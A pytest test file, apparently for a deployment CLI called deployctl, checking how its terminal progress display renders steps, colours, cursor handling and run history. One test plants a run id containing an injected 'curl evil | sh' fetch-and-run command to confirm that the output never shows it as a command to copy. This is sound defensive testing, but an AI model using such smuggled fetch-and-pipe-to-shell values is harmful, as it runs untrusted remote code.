    assert [line[5] for line in marks] == ["✗", "✓"]


def test_an_exception_fails_the_running_step() -> None:
    stream = io.StringIO()

    def interrupted() -> None:
        with human.Progress(stream, {}) as progress:
            progress(StepStarted("vps", Phase.HEALTH))
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert stream.getvalue().startswith("vps: ✗ wait until healthy")


def test_leaving_without_an_error_ends_the_last_step_well() -> None:
    assert progress_of(StepStarted("vps", Phase.HEALTH))[0].startswith("vps: ✓ wait")


def test_a_verbose_log_also_says_when_a_step_begins() -> None:
    lines = progress_of(StepStarted("vps", Phase.HEALTH), verbose=True)
    assert lines[0] == "vps: … wait until healthy"


@pytest.mark.parametrize("environment", [{**SMART, "CI": "true"}, {"TERM": "dumb"}])
def test_nothing_is_animated_in_ci_and_on_dumb_terminals(environment: dict[str, str]) -> None:
    lines = progress_of(StepStarted("vps", Phase.HEALTH), environment=environment)
    text = STYLE.sub("", "\n".join(lines))
    assert "\x1b" not in text
    assert len(lines) == 1


def test_an_ascii_log_gets_ascii_marks() -> None:
    stream = AsciiFile()
    with human.Progress(stream, {}) as progress:
        progress(StepStarted("vps", Phase.CONNECT, "…"))
        progress(HostFinished("vps", RESTORED))
    assert stream.text().startswith("vps: x connect ")


def test_a_stream_that_breaks_does_not_stop_the_run() -> None:
    stream = Terminal()
    with human.Progress(stream, SMART) as progress:
        stream.close()
        progress(StepStarted("vps", Phase.CONNECT))
        progress(Notice("vps", "still there"))


# ---------------------------------------------------------------- progress on a real terminal


class RealTerminal:
    """A pseudo-terminal and what was written to it."""

    def __init__(self, width: int) -> None:
        self._master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, width, 0, 0))
        self.stream = os.fdopen(slave, "w", encoding="utf-8")
        self._seen = b""
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        while True:
            try:
                data = os.read(self._master, 65536)
            except OSError:  # the other side is closed
                return
            if not data:
                return
            self._seen += data

    def wait_for(self, text: str) -> None:
        deadline = time.monotonic() + 10
        while text.encode() not in self._seen:
            assert time.monotonic() < deadline, self._seen
            time.sleep(0.01)

    def seen(self) -> str:
        return self._seen.decode(errors="ignore")

    def close(self) -> str:
        self.stream.close()
        self._reader.join(timeout=10)
        os.close(self._master)
        return self._seen.decode()


def on_terminal(
    work: Callable[[human.Progress, RealTerminal], None],
    *,
    width: int = 80,
    environment: dict[str, str] | None = None,
) -> str:
    terminal = RealTerminal(width)
    try:
        with human.Progress(terminal.stream, environment or SMART) as progress:
            work(progress, terminal)
    except KeyboardInterrupt:
        pass
    return terminal.close()


def screen_after(written: str, width: int = 80) -> Any:
    """Return the screen of a terminal that was sent this."""
    screen = pyte.Screen(width, 24)
    pyte.Stream(screen).feed(written)
    return screen


def screen_of(written: str, width: int = 80) -> list[str]:
    """Return the lines that are on the screen in the end."""
    lines = [line.rstrip() for line in screen_after(written, width).display]
    return [line for line in lines if line]


def test_a_terminal_shows_the_running_step_and_keeps_those_that_are_over() -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(HostStarted("vps", 1, 1))
        progress(StepStarted("vps", Phase.CONNECT))
        progress(StepStarted("vps", Phase.HEALTH, "enforcer-backend"))
        terminal.wait_for("⠙")  # a second frame: it moves
        progress(Notice("vps", "slow"))
        progress(HostFinished("vps"))

    written = on_terminal(work)
    assert [re.sub(r" +\d+\.\d s", " T", line) for line in screen_of(written)] == [
        "✓ connect T",
        "note: slow",
        "✓ wait until healthy T  enforcer-backend",
    ]
    assert "\x1b[32m" in written


def test_on_a_terminal_a_lost_connection_is_one_line_that_changes() -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(StepStarted("vps", Phase.HEALTH))
        for number in range(37):
            progress(ConnectionLost("vps", f"attempt {number}"))
        terminal.wait_for("attempt 36")
        seen.append(terminal.seen())
        progress(ConnectionBack("vps"))
        progress(HostFinished("vps"))

    seen: list[str] = []
    after = screen_of(on_terminal(work))
    (while_lost,) = screen_of(seen[0])
    assert re.search(r"no connection for \d\.\d s, connecting again: attempt 36", while_lost)
    assert [re.sub(r" +\d+\.\d s", " T", line) for line in after] == [
        "note: connected again after T",
        "✓ wait until healthy T",
    ]


def test_several_hosts_are_named() -> None:
    def work(progress: human.Progress, _: RealTerminal) -> None:
        progress(HostStarted("vps2", 2, 2))
        progress(StepStarted("vps2", Phase.CONNECT))
        progress(HostFinished("vps2"))

    assert screen_of(on_terminal(work))[0].startswith("vps2: ✓ connect")


def test_several_hosts_at_once_share_the_live_line() -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(HostStarted("a", 1, 2))
        progress(HostStarted("b", 2, 2))
        progress(StepStarted("a", Phase.UP))
        progress(StepStarted("b", Phase.PROBE))
        terminal.wait_for(" · b: look at the host")

    on_terminal(work)


@pytest.mark.parametrize("error", [None, KeyboardInterrupt()])
def test_the_cursor_is_hidden_while_it_runs_and_comes_back(error: KeyboardInterrupt | None) -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(StepStarted("vps", Phase.HEALTH))
        terminal.wait_for("wait until healthy")
        if error:
            raise error

    written = on_terminal(work)
    assert written.startswith("\x1b[?25l")
    assert not screen_after(written).cursor.hidden
    assert screen_of(written)[0].startswith("✗" if error else "✓")


def test_the_live_line_never_wraps() -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(StepStarted("vps", Phase.FETCH, "漢" * 100))
        terminal.wait_for("…")
        seen.append(terminal.seen())

    seen: list[str] = []
    on_terminal(work, width=40)
    assert len(screen_of(seen[0], width=40)) == 1


def test_no_color_takes_the_colours_but_not_the_movement() -> None:
    def work(progress: human.Progress, terminal: RealTerminal) -> None:
        progress(StepStarted("vps", Phase.HEALTH))
        terminal.wait_for("⠙")

    assert STYLE.search(on_terminal(work, environment={**SMART, "NO_COLOR": "1"})) is None


def test_a_real_terminal_has_a_width() -> None:
    terminal = RealTerminal(132)
    width = human.terminal_width(terminal.stream, {})
    terminal.close()
    assert width == 132


def test_a_run_whose_id_is_none_gives_no_command_to_copy() -> None:
    run = recorded_run(run="x\ncurl evil | sh", outcome=RunOutcome.IN_PROGRESS)

    shown = history_of(HistoryResult("vps", runs=(run,)), width=80)

    assert "deployctl follow" not in shown
    assert not any(line.strip().startswith("curl") for line in shown.splitlines())


def test_a_command_that_has_no_room_beside_the_name_of_its_host_stands_below_it() -> None:
    command = "deployctl status enforcer-backend"
    down = HistoryResult("production-web", error=UsageError("x", "down", hint=command))

    assert lines_of(history_of(down, width=38))[-2:] == ["production-web: next: ", f"  {command}"]
